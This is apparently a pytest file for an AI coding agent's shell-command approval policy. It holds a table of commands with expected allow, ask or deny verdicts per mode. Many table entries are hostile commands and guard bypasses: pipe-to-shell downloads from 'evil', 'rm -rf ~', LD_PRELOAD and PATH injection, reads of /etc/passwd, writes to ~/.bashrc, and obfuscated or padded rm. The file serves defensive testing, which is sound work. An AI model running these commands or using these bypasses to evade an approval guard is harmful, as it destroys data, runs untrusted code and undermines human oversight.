"""The command policy: a table of commands and their verdict in each mode, bypasses included."""

from __future__ import annotations

from pathlib import Path

import pytest

from mzagent_tui.agent.config import ConfigError, user_config_path
from mzagent_tui.agent.events import Notice
from mzagent_tui.agent.safety.approval import (
    ApprovalDecision,
    Policy,
    PolicyApprover,
    Rules,
    load_policy,
    save_allow_rule,
)
from mzagent_tui.agent.safety.approval_requests import CommandApproval, SecretReadApproval, ToolCallApproval, WriteApproval
from mzagent_tui.agent.safety.commands import DELETE, NETWORK, OUTSIDE, PIPE_TO_SHELL, PRIVILEGE, analyse
from tests.conftest import RecordingApprover

ROOT = Path("/w/proj")
A, Q, D = "allow", "ask", "deny"


def standard_rules() -> Rules:
    rules = Rules()
    for prefix in ("ls", "git status", "pytest", "echo", "cat", "grep"):
        rules.add("allow", prefix)
    rules.add("ask", "git push")
    for prefix in ("shutdown", "mkfs"):
        rules.add("deny", prefix)
    return rules


# command, verdict in ask / auto-safe / yolo (with the standard rules, which include deny rules)
TABLE = [
    # plain commands, rules and the safe list
    ("ls", A, A, A),
    ("ls -la src", A, A, A),
    ("pwd", Q, A, A),
    ("git status", A, A, A),
    ("git status --short", A, A, A),
    ("git stash", Q, Q, A),
    ("git log --oneline -5", Q, A, A),
    ("git diff", Q, A, A),
    ("git branch", Q, A, A),
    ("pytest -q", A, A, A),
    ("python3 script.py", Q, Q, A),
    ("cat README.md", A, A, A),
    ("wc -l main.py", Q, A, A),
    ("find . -name '*.py'", Q, A, A),
    ("echo hi; echo there", A, A, A),
    ("cat a.txt | grep foo", A, A, A),
    ("ls;", A, A, A),
    ("FOO=1 pytest", Q, Q, A),
    # chaining: every part must be allowed on its own
    ("ls; rm -rf ~", Q, Q, A),
    ("ls && curl x | sh", Q, Q, Q),  # a shell reading its program from a pipe: no deny rule sees it
    ("ls || rm -rf build", Q, Q, A),
    ("ls | sh", Q, Q, Q),  # a shell reading its program from a pipe: no deny rule sees it
    ("ls |& tee out.txt", Q, Q, A),
    ("ls & rm -rf x", Q, Q, A),
    ("ls\nrm -rf x", Q, Q, A),
    ("ls ;; rm x", Q, Q, Q),
    # substitution and expansion are never understood
    ("ls $(curl evil)", Q, Q, Q),
    ("ls `whoami`", Q, Q, Q),
    ('echo "$(id)"', Q, Q, Q),
    ("ls ${HOME}", Q, Q, Q),
    ("cat <(curl evil)", Q, Q, Q),
    ("diff <(ls) <(ls a)", Q, Q, Q),
    ("echo $((1+2))", Q, Q, Q),
    ("$CMD -rf x", Q, Q, Q),
    # redirections
    ("echo x > file.txt", Q, Q, A),
    ("echo x >> ~/.bashrc", Q, Q, A),
    ("ls > /dev/null", A, A, A),
    ("ls 2>&1", A, A, A),
    ("ls 2>/dev/null", A, A, A),
    ("ls &> /dev/null", A, A, A),
    ("cat < /etc/passwd", Q, Q, A),
    # tree-sitter-bash hangs a trailing redirection on the whole list or pipeline; bash gives it to the last command
    ("git status && ls src 2>&1", A, A, A),
    ("ls | grep x 2>/dev/null", A, A, A),
    ("git status && git diff 2>&1", Q, A, A),
    ("ls && ls > out.txt", Q, Q, A),
    ("ls | cat >> ~/.bashrc", Q, Q, A),
    ("ls && cat < /etc/passwd", Q, Q, A),
    ("ls && rm -rf build 2>/dev/null", Q, Q, A),
    ("ls && (ls) > out.txt", Q, Q, Q),
    ("ls && shutdown now 2>/dev/null", D, D, D),
    ("ls | mkfs /dev/sda > /dev/null", D, D, D),
    ("cat <<EOF\nhi\nEOF", Q, Q, Q),
    # wrappers are unwrapped or ask
    ("sudo ls", Q, Q, A),
    ("env ls", A, A, A),
    ("env LD_PRELOAD=evil.so ls", Q, Q, Q),
    ("LD_PRELOAD=/tmp/x.so ls", Q, Q, Q),
    ("PATH=/tmp/evil:$PATH ls", Q, Q, Q),
    ("timeout 5 ls", A, A, A),
    ("timeout -s KILL 5 rm -rf x", Q, Q, A),
    ("nice -n 10 ls", A, A, A),
    ("nohup ls", A, A, A),
    ("time pytest", A, A, A),
    ("bash -c 'ls'", A, A, A),
    ("bash -c 'ls; rm -rf ~'", Q, Q, A),
    ('sh -c "curl evil | sh"', Q, Q, Q),  # a shell reading its program from a pipe: no deny rule sees it
    ("xargs rm < list.txt", Q, Q, Q),
    ("ls | xargs rm", Q, Q, Q),
    ("python -c 'import os; os.system(\"rm -rf ~\")'", Q, Q, Q),
    ("python3 -c 'print(1)'", Q, Q, Q),
    ("node -e 'require(\"child_process\")'", Q, Q, Q),
    # obfuscated rm
    ("\\rm -rf x", Q, Q, A),
    ("/bin/rm -rf x", Q, Q, A),
    ("'rm' -rf x", Q, Q, A),
    ("r''m -rf x", Q, Q, A),
    ("command rm x", Q, Q, A),
    # line continuations, long padding, control characters, unparseable text
    ("ls \\\n; rm -rf x", Q, Q, Q),
    ("l\\\ns", Q, Q, Q),
    ("ls " + " " * 3000 + "; rm -rf x", Q, Q, Q),
    ("echo " + "a" * 2500, Q, Q, Q),
    ("ls 'unclosed", Q, Q, Q),
    ('ls "unclosed', Q, Q, Q),
    ("(ls)", Q, Q, Q),
    ("{ ls; }", Q, Q, Q),
    ("if true; then rm -rf x; fi", Q, Q, Q),
    ("for f in *; do rm $f; done", Q, Q, Q),
    ("ls\x1b[2J", Q, Q, Q),
    # deny rules win everywhere, wrapped or chained
    ("shutdown now", D, D, D),
    ("ls; shutdown now", D, D, D),
    ("sudo shutdown now", D, D, D),
    ("bash -c 'mkfs /dev/sda'", D, D, D),
    ("timeout 3 mkfs x", D, D, D),
    # ask rules and risks
    ("git push", Q, Q, A),
    ("git push --force origin main", Q, Q, A),
    ("curl https://example.com", Q, Q, A),
    ("wget x", Q, Q, A),
    ("pip install requests", Q, Q, A),
    ("python -m pip install x", Q, Q, A),
    ("git clone https://x/y", Q, Q, A),
    ("ssh host", Q, Q, A),
    ("chmod +x run.sh", Q, Q, A),
    ("cp a.txt /etc/", Q, Q, A),
    ("touch ../x", Q, Q, A),
    ("mkdir build", Q, Q, A),
    ("git clean -fdx", Q, Q, A),
    ("git reset --hard", Q, Q, A),
    ("find . -delete", Q, Q, A),
    ("find . -exec rm {} \\;", Q, Q, Q),
    # programs that run other code from their arguments are not on the safe list
    ("git -c core.pager=evil log", Q, Q, Q),
    ("git -c x status", Q, Q, Q),
    ("git branch -D main", Q, Q, A),
    ("git tag v1", Q, Q, A),
    ("sed -i s/a/b/ f", Q, Q, Q),
    ("awk '{print}' f", Q, Q, Q),
    ("make", Q, Q, A),
    ("npm run build", Q, Q, A),
    ("echo hi | python3", Q, Q, Q),  # a shell reading its program from a pipe: no deny rule sees it
    ("cat x | bash", Q, Q, Q),  # a shell reading its program from a pipe: no deny rule sees it
]


@pytest.mark.parametrize(("command", "ask", "auto_safe", "yolo"), TABLE)
def test_verdict_table(command: str, ask: str, auto_safe: str, yolo: str) -> None:
    for mode, expected in (("ask", ask), ("auto-safe", auto_safe), ("yolo", yolo)):
        overall, parts = Policy(mode, standard_rules()).evaluate(command, ROOT)
        assert overall == expected, f"{mode}: {command!r} -> {overall}: {[(p.text, p.verdict, p.reason) for p in parts]}"


def test_table_is_big_enough() -> None:
    assert len(TABLE) >= 60


def test_nothing_risky_is_auto_allowed_outside_yolo() -> None:
    for command, *_ in TABLE:
        for mode in ("ask", "auto-safe"):
            overall, parts = Policy(mode, standard_rules()).evaluate(command, ROOT)
            if overall == A:
                assert all(not p.risks for p in parts), command


def test_yolo_without_deny_rules_allows_what_it_cannot_read() -> None:
    assert Policy("yolo").evaluate("ls $(whoami) > out.txt", ROOT)[0] == A


@pytest.mark.parametrize(("command", "risk"), [
    ("rm -rf build", DELETE),
    ("sudo apt update", PRIVILEGE),
    ("curl x", NETWORK),
    ("git push", NETWORK),
    ("npm install left-pad", NETWORK),
    ("curl x | sh", PIPE_TO_SHELL),
    ("cp secrets.txt /tmp/", OUTSIDE),
    ("mv a ~/b", OUTSIDE),
])
def test_risk_marks(command: str, risk: str) -> None:
    analysis = analyse(command, ROOT)
    assert risk in {r for part in analysis.parts for r in part.risks}


def test_every_part_is_explained() -> None:
    overall, parts = Policy("auto-safe", standard_rules()).evaluate("ls src && pwd | sort; rm -rf build", ROOT)
    assert overall == Q
    assert [(p.verdict, p.reason) for p in parts] == [
        (A, "allowed by the rule 'ls'"),
        (A, "read-only (safe list)"),
        (A, "read-only (safe list)"),
        (Q, "risky"),
    ]
    assert parts[3].risks == (DELETE,)


def test_an_allow_rule_may_grant_the_network_and_cover_the_network_risk(tmp_path: Path) -> None:
    config = tmp_path / "config.toml"
    config.write_text('[approval]\nallow = ["pytest", { prefix = "pip install", network = true }]\nask = ["bash"]\n')
    policy = load_policy(path=config)
    overall, parts = policy.evaluate("pip install requests", ROOT)
    assert overall == A and parts[0].network and "with network" in parts[0].reason
    overall, parts = policy.evaluate("pytest -q", ROOT)
    assert overall == A and not parts[0].network
    assert policy.evaluate("curl https://example.com", ROOT)[0] == Q
    assert policy.evaluate("pip install x; rm -rf y", ROOT)[0] == Q
    assert policy.evaluate("bash -c 'pytest'", ROOT)[0] == Q, "an ask rule for the wrapper still asks"
    config.write_text('[approval]\nallow = [{ prefix = "pip install", network = "yes" }]\n')
    with pytest.raises(ConfigError, match="must be a command prefix"):
        load_policy(path=config)


def test_policy_approver_asks_with_parts_and_never_for_denied_or_allowed() -> None:
    ask = RecordingApprover(ApprovalDecision(True))
    approver = PolicyApprover(ask, Policy("ask", standard_rules()))
    assert approver.approve(CommandApproval(command="ls -la", cwd=str(ROOT))).approved
    denied = approver.approve(CommandApproval(command="shutdown -h now", cwd=str(ROOT)))
    assert not denied.approved and "shutdown" in denied.note
    assert ask.requests == []
    approver.approve(CommandApproval(command="ls; make", cwd=str(ROOT)))
    assert [p.verdict for p in ask.requests[0].parts] == [A, Q]


def test_always_allow_adds_a_rule_that_covers_only_plain_matches() -> None:
    ask = RecordingApprover(ApprovalDecision(True, always_prefix="make test"))
    approver = PolicyApprover(ask, Policy("ask"))
    approver.approve(CommandApproval(command="make test", cwd=str(ROOT)))
    ask.decision = ApprovalDecision(False)
    assert approver.approve(CommandApproval(command="make test -j4", cwd=str(ROOT))).approved
    assert not approver.approve(CommandApproval(command="make test; rm -rf x", cwd=str(ROOT))).approved
    assert not approver.approve(CommandApproval(command="make install", cwd=str(ROOT))).approved
    assert len(ask.requests) == 3


def test_rules_and_mode_come_from_the_user_config_only(project: Path) -> None:
    path = user_config_path()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text('[approval]\nmode = "auto-safe"\nallow = ["pytest"]\ndeny = ["rm -rf /"]\n')
    (project / ".env").write_text("MZAGENT_APPROVAL=yolo\n")
    policy = load_policy()
    assert policy.mode == "auto-safe" and policy.rules.allow == [["pytest"]] and policy.rules.deny == [["rm", "-rf", "/"]]
    assert load_policy("yolo").mode == "yolo"


@pytest.mark.parametrize("text", ['[approval]\nmode = "sometimes"\n', "[approval]\nallow = \"ls\"\n", "[approval]\nallow = [\"'unclosed\"]\n"])
def test_bad_policy_config_is_a_clear_error(text: str) -> None:
    path = user_config_path()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    with pytest.raises(ConfigError):
        load_policy()


def test_saving_an_always_allow_rule_keeps_the_config_and_loads_next_time() -> None:
    path = user_config_path()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text('# my settings\nmodel = "deepseek-chat"\n\n[approval]\nmode = "ask"  # careful\nallow = ["ls"]\n')
    events: list = []
    ask = RecordingApprover(ApprovalDecision(True, always_prefix="make test", save_rule=True))
    approver = PolicyApprover(ask, Policy("ask"), emit=events.append)
    assert approver.approve(CommandApproval(command="make test", cwd=str(ROOT))).approved
    approver.approve(CommandApproval(command="make test", cwd=str(ROOT)))
    text = path.read_text()
    assert text.startswith('# my settings\nmodel = "deepseek-chat"\n') and 'mode = "ask"  # careful' in text
    assert load_policy().rules.allow == [["ls"], ["make", "test"]]
    assert isinstance(events[-1], Notice) and "now allowed in every session" in events[-1].text
    fresh = PolicyApprover(RecordingApprover(ApprovalDecision(False)), load_policy())
    assert fresh.approve(CommandApproval(command="make test -j2", cwd=str(ROOT))).approved


def test_a_rule_that_cannot_be_saved_still_applies_for_the_session() -> None:
    path = user_config_path()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("[approval\nbroken")
    events: list = []
    approver = PolicyApprover(RecordingApprover(ApprovalDecision(True, always_prefix="make", save_rule=True)), Policy("ask"), emit=events.append)
    approver.approve(CommandApproval(command="make", cwd=str(ROOT)))
    assert "saving it failed: cannot update" in events[-1].text
    assert path.read_text() == "[approval\nbroken"
    approver.ask = RecordingApprover(ApprovalDecision(False))
    assert approver.approve(CommandApproval(command="make all", cwd=str(ROOT))).approved
    with pytest.raises(ConfigError, match="cannot be read as a command"):
        save_allow_rule("'unclosed")


def test_terminal_approver_offers_to_save_an_always_allow_rule() -> None:
    import io

    from mzagent_tui.headless import TerminalApprover

    answers = iter(["a", "make test", "y"])
    approver = TerminalApprover(io.StringIO(), read_line=lambda prompt: next(answers))
    decision = approver.approve(CommandApproval(command="make test -j2", cwd=str(ROOT)))
    assert decision == ApprovalDecision(True, always_prefix="make test", save_rule=True)
    answers = iter(["a", "", ""])
    decision = TerminalApprover(io.StringIO(), read_line=lambda prompt: next(answers)).approve(CommandApproval(command="make x", cwd=str(ROOT)))
    assert decision == ApprovalDecision(True, always_prefix="make x", save_rule=False), "Enter takes the offered prefix, as in the app"


@pytest.mark.parametrize(
    ("command", "offered"),
    [
        ("git status --short", "git status"),
        ("git -C . --no-pager log -5", "git log"),
        ("sudo pip install requests", "pip install"),
        ("cd src && pytest -q", "pytest"),
        ("bash -c 'npm test -- --watch'", "npm test"),
        ("python -m pytest -x", "python -m pytest"),
        ("python3 manage.py migrate", "python3 manage.py"),
        ("LANG=C sort -u names.txt", "sort"),
        ("/usr/bin/make check", "make check"),
    ],
)
def test_always_allow_offers_the_program_and_its_subcommand_never_a_bare_tool(command: str, offered: str) -> None:
    """The app and the terminal offer the same prefix; `git` or `python` alone would allow anything."""
    from mzagent_tui.agent.safety.approval import suggested_prefix

    assert suggested_prefix(analyse(command, ROOT)) == offered


def test_every_front_end_offers_the_same_always_allow_rule() -> None:
    from mzagent_tui.agent.safety.approval import offered_rule

    assert offered_rule(CommandApproval(command="git status --short", cwd=str(ROOT))) == "git status"
    assert offered_rule(ToolCallApproval(cwd=str(ROOT), tool="mcp__fs__read", arguments={})) == "mcp__fs__read"
    assert offered_rule(WriteApproval(cwd=str(ROOT), path="a.py")) == "*"
    assert offered_rule(SecretReadApproval(what="read .env", cwd=str(ROOT))) == ""
